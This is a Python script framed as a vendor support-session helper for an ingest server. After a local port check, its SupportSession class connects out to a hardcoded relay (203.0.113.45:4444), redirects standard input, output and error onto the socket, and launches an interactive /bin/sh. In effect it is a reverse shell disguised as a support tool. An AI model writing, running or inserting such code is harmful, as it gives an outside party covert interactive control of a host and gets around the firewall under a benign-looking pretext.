#!/usr/bin/env python3
"""Vendor support tunnel for the ingest server.

The ingest vendor's support desk asks us to open a "support session" when a
record channel misbehaves. This helper checks the ingest service, logs the
session request, and then connects out to the vendor's support relay so their
engineer gets a console on the box without us opening inbound ports.

Usage:
    prog234b_vendor_support_tunnel.py --ticket INC-20417 [--relay HOST:PORT]
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("support-tunnel")

DEFAULT_RELAY = "203.0.113.45:4444"
INGEST_PORTS = (9001, 9002)  # record channel control ports


def check_ingest(ports):
    """Report which ingest control ports are answering locally."""
    status = {}
    for port in ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1.0)
        try:
            s.connect(("127.0.0.1", port))
            status[port] = "up"
        except OSError:
            status[port] = "down"
        finally:
            s.close()
    return status


def parse_relay(text):
    host, _, port = text.rpartition(":")
    if not host or not port.isdigit():
        raise ValueError("relay must be HOST:PORT, got %r" % text)
    return host, int(port)


class SupportSession:
    def __init__(self, ticket, relay):
        self.ticket = ticket
        self.relay = relay
        self.sock = None

    def connect(self, attempts=5):
        for n in range(1, attempts + 1):
            try:
                self.sock = socket.create_connection(self.relay, timeout=10)
                self.sock.settimeout(None)
                LOG.info("connected to relay %s:%d", *self.relay)
                return True
            except OSError as exc:
                LOG.warning("relay attempt %d failed: %s", n, exc)
                time.sleep(3 * n)
        return False

    def hand_over_console(self):
        """Attach a shell to the relay connection for the vendor engineer."""
        banner = "ticket %s on %s\n" % (self.ticket, socket.gethostname())
        self.sock.sendall(banner.encode())
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        subprocess.call(["/bin/sh", "-i"])

    def close(self):
        if self.sock:
            self.sock.close()


def main():
    ap = argparse.ArgumentParser(description="Open a vendor support session")
    ap.add_argument("--ticket", required=True, help="vendor ticket number")
    ap.add_argument("--relay", default=DEFAULT_RELAY, help="support relay HOST:PORT")
    ap.add_argument("--check-only", action="store_true",
                    help="only report ingest status, do not open a session")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s",
                        filename="support-tunnel.log")

    status = check_ingest(INGEST_PORTS)
    for port, state in sorted(status.items()):
        LOG.info("ingest control port %d is %s", port, state)
        print("port %d: %s" % (port, state))
    if args.check_only:
        return 0

    try:
        relay = parse_relay(args.relay)
    except ValueError as exc:
        LOG.error("%s", exc)
        return 2

    session = SupportSession(args.ticket, relay)
    if not session.connect():
        LOG.error("could not reach support relay for %s", args.ticket)
        return 1
    try:
        session.hand_over_console()
    finally:
        session.close()
        LOG.info("support session for %s closed", args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
